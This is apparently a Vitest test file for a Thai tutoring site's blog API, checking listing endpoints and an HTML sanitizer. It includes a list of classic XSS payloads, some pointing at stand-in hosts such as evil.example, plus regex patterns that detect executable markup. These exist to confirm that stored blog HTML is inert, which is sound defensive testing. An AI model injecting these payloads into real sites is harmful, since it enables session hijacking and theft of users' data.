import { describe, expect, it } from 'vitest'
import { BLOG_CATEGORY_IDS, blogCategoryPageSchema, blogPageSchema, blogSchema, type BlogPage } from '~/contract/api/blogs'
import { TUTORING_CATEGORY_ID } from '~/contract/api/catalogue'
import { createBlogsRepository } from '~/server/db/repositories/blogs-repository'
import { BLOGS, blogId, MUSIC } from '~/server/db/seed-catalogue-content'
import { sanitizeBlogHtml } from '~/server/html/blog-html'
import { expectValidationError, getJson, valid, getValid } from './support/catalogue'
import { setUpTestBackend } from './support/test-backend'

const backend = setUpTestBackend({ nodeEnv: 'production' })

const blogList = async (query = ''): Promise<BlogPage> => {
  return getValid(backend, `/v2/blogs/blogs${query}`, blogPageSchema)
}
const blog = async (id: string) => {
  return getValid(backend, `/v2/blogs/blogs/${id}`, blogSchema)
}

describe('GET /v2/blogs/categories', () => {
  it('answers the two fixed categories, with their stable ids', async () => {
    for (const query of ['', `?domain-id=${TUTORING_CATEGORY_ID}`]) {
      const answer = await getJson(backend, `/v2/blogs/categories${query}`)
      const page = valid(blogCategoryPageSchema, answer.body)
      expect(page.items.map((c) => [c._id, c.slug])).toEqual([
        [BLOG_CATEGORY_IDS.courses, 'courses'],
        [BLOG_CATEGORY_IDS.howToUse, 'how-to-use'],
      ])
      expect(page.items.every((c) => c.domain_id === TUTORING_CATEGORY_ID && /[\u0E00-\u0E7F]/.test(c.name))).toBe(true)
    }
  })

  it('another domain has none; an unknown one is a 404; a malformed one a 400', async () => {
    expect(valid(blogCategoryPageSchema, (await getJson(backend, `/v2/blogs/categories?domain-id=${MUSIC}`)).body).total).toBe(0)
    expect((await getJson(backend, '/v2/blogs/categories?domain-id=65f1000000000000000000ff')).status).toBe(404)
    expectValidationError(await getJson(backend, '/v2/blogs/categories?domain-id=x'), 'domain-id')
  })
})

describe('GET /v2/blogs/blogs', () => {
  it('lists blogs newest first, with an excerpt and without the body', async () => {
    const page = await blogList(`?domain-id=${TUTORING_CATEGORY_ID}&limit=50`)
    expect(page.total).toBe(BLOGS.length)
    expect(page.items.every((b, i) => i === 0 || Date.parse(page.items[i - 1]?.created_at ?? '') >= Date.parse(b.created_at))).toBe(true)
    for (const b of page.items) {
      expect(b).not.toHaveProperty('content_html')
      expect(b.excerpt.length).toBeGreaterThan(10)
      expect(b.excerpt.length).toBeLessThanOrEqual(201)
      expect(b.excerpt).not.toMatch(/[<>]/)
    }
  })

  it('blog-category-ids keeps those categories', async () => {
    const courses = await blogList(`?blog-category-ids=${BLOG_CATEGORY_IDS.courses}`)
    expect(courses.total).toBe(BLOGS.filter((b) => b.category === BLOG_CATEGORY_IDS.courses).length)
    expect(courses.items.every((b) => b.blog_category._id === BLOG_CATEGORY_IDS.courses && b.blog_category.slug === 'courses')).toBe(true)
    const both = await blogList(`?blog-category-ids=${BLOG_CATEGORY_IDS.courses},${BLOG_CATEGORY_IDS.howToUse}`)
    expect(both.total).toBe(BLOGS.length)
    expect((await blogList('?blog-category-ids=65b0000000000000000000ff')).total).toBe(0)
  })

  it.each([
    ['?blog-category-ids=abc', 'blog-category-ids'],
    [`?blog-category-ids=${BLOG_CATEGORY_IDS.courses},`, 'blog-category-ids'],
    [`?blog-category-ids=${Array.from({ length: 21 }, (_, i) => `65b0000000000000000000${(i + 16).toString(16)}`).join(',')}`, 'blog-category-ids'],
    ['?domain-id=123', 'domain-id'],
  ])('%s is a 400 naming %s', async (query, field) => {
    expectValidationError(await getJson(backend, `/v2/blogs/blogs${query}`), field)
  })

  it('an unknown domain is a 404', async () => {
    expect((await getJson(backend, '/v2/blogs/blogs?domain-id=65f1000000000000000000ff')).status).toBe(404)
  })
})

describe('GET /v2/blogs/blogs/{id}', () => {
  it('answers the fixed example blog with its HTML', async () => {
    const first = await blog(blogId(1))
    expect(first._id).toBe('65c000000000000000000001')
    expect(first.title).toBe(BLOGS[0]?.title)
    expect(first.content_html).toContain('<h2>')
    // Links are forced to rel="noopener noreferrer"; target=_blank stays.
    expect(first.content_html).toContain('<a rel="noopener noreferrer" href="https://example.com/tutoring/browse" target="_blank">')
  })

  it('seeded HTML went through the sanitizer', async () => {
    // Blog 4 was written with a <script>, blog 5 with an onclick: both are gone.
    expect((await blog(blogId(4))).content_html).not.toMatch(/script|alert/i)
    expect((await blog(blogId(5))).content_html).not.toMatch(/onclick|steal/)
    const pictured = await blog(blogId(3))
    expect(pictured.content_html).toMatch(/<img loading="lazy" src="\/images\/covers\/service-13-hsk-seal\.svg" alt="[^"]+" width="320" height="180" \/>/)
  })

  it('an unknown id is a 404, a malformed one a 400', async () => {
    expect((await getJson(backend, '/v2/blogs/blogs/65c0000000000000000000ff')).status).toBe(404)
    expectValidationError(await getJson(backend, '/v2/blogs/blogs/65c0'), 'id')
  })
})

/** Classic XSS payloads (OWASP filter-evasion cheat sheet, mXSS reports against HTML sanitizers). */
const XSS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/ok.png" onerror="alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<svg onload=alert(1)><circle r=1></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<body onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.example/x.png">',
  '<form action="https://evil.example"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<p title="x" onmouseover="alert(1)">hover</p>',
  '<p title=""><img src=x onerror=alert(1)>">',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<template><script>alert(1)</script></template>',
  '<a href="https://ok.example" onclick="alert(1)" target="_top">ok</a>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
]

/** Nothing in `html` could run: no scripts, handlers, dangerous URLs or active elements. */
function expectInert(html: string) {
  expect(html).not.toMatch(/<script/i)
  expect(html).not.toMatch(/\son[a-z]+\s*=/i)
  expect(html).not.toMatch(/javascript:|vbscript:|data:/i)
  expect(html).not.toMatch(/<(iframe|svg|math|style|form|input|button|object|embed|base|meta|link|template|body|details|video|source)\b/i)
  expect(html).not.toMatch(/style\s*=/i)
  for (const match of html.matchAll(/\s(href|src)="([^"]*)"/g)) expect(match[2]).toMatch(/^(https?:\/\/|mailto:|\/(?!\/))/)
  // Every tag left is on the allow-list.
  for (const match of html.matchAll(/<\/?([a-zA-Z0-9]+)/g)) {
    expect(['p', 'h2', 'h3', 'h4', 'ul', 'ol', 'li', 'strong', 'em', 'a', 'img', 'blockquote', 'br', 'figure', 'figcaption']).toContain(match[1]?.toLowerCase())
  }
}

describe('blog HTML is sanitized when saved', () => {
  it(`stores none of ${XSS.length} XSS payloads in an executable form`, async () => {
    const repo = createBlogsRepository(backend.db)
    for (const [i, payload] of XSS.entries()) {
      const saved = await repo.saveBlog({ blogCategoryId: BLOG_CATEGORY_IDS.courses, title: `xss ${i}`, contentHtml: `<p>ก่อน</p>${payload}<p>หลัง</p>` })
      expect(saved.contentHtml, payload).toContain('<p>ก่อน</p>')
      expectInert(saved.contentHtml)
      // What readers get is what was stored.
      const read = await blog(saved.id)
      expect(read.content_html).toBe(saved.contentHtml)
      expectInert(read.excerpt)
    }
  })

  it('keeps the allowed markup, forcing safe link and image attributes', () => {
    const html = [
      '<h2>หัวข้อ</h2><h3>ย่อย</h3><h4>ย่อยลง</h4>',
      '<p><strong>หนา</strong> <em>เอียง</em><br></p>',
      '<ul><li>หนึ่ง</li></ul><ol><li>สอง</li></ol><blockquote>คำคม</blockquote>',
      '<a href="https://example.com" target="_blank" rel="opener">ลิงก์</a>',
      '<a href="mailto:help@example.com">อีเมล</a>',
      '<a href="/tutoring">ภายใน</a>',
      '<figure><img src="/images/covers/service-01-calculus.svg" alt="คณิต" width="320" height="x" class="big"><figcaption>ภาพ</figcaption></figure>',
      '<img src="https://cdn.example.com/a.png" alt="">',
      '<div><span>ข้อความใน div</span></div>',
    ].join('')
    const clean = sanitizeBlogHtml(html)
    expect(clean).toContain('<h2>หัวข้อ</h2><h3>ย่อย</h3><h4>ย่อยลง</h4>')
    expect(clean).toContain('<p><strong>หนา</strong> <em>เอียง</em><br /></p>')
    expect(clean).toContain('<ul><li>หนึ่ง</li></ul><ol><li>สอง</li></ol><blockquote>คำคม</blockquote>')
    expect(clean).toContain('<a rel="noopener noreferrer" href="https://example.com" target="_blank">ลิงก์</a>')
    expect(clean).toContain('<a rel="noopener noreferrer" href="mailto:help@example.com">อีเมล</a>')
    // Only http, https and mailto links: a site path loses its href (the text stays).
    expect(clean).toContain('<a rel="noopener noreferrer">ภายใน</a>')
    expect(clean).toContain('<figure><img loading="lazy" src="/images/covers/service-01-calculus.svg" alt="คณิต" width="320" /><figcaption>ภาพ</figcaption></figure>')
    expect(clean).toContain('<img loading="lazy" src="https://cdn.example.com/a.png" alt="" />')
    // Unknown wrappers go, their text stays.
    expect(clean).toContain('ข้อความใน div')
    expect(clean).not.toMatch(/<div|<span|class=/)
  })

  it('the save path replaces a blog by id, sanitizing again', async () => {
    const repo = createBlogsRepository(backend.db)
    const saved = await repo.saveBlog({ blogCategoryId: BLOG_CATEGORY_IDS.howToUse, title: 'ชั่วคราว', contentHtml: '<p>หนึ่ง</p>' })
    await repo.saveBlog({ id: saved.id, blogCategoryId: BLOG_CATEGORY_IDS.howToUse, title: 'แก้แล้ว', contentHtml: '<p onclick="x()">สอง</p><script>x()</script>' })
    const read = await blog(saved.id)
    expect(read).toMatchObject({ title: 'แก้แล้ว', content_html: '<p>สอง</p>', excerpt: 'สอง' })
  })
})
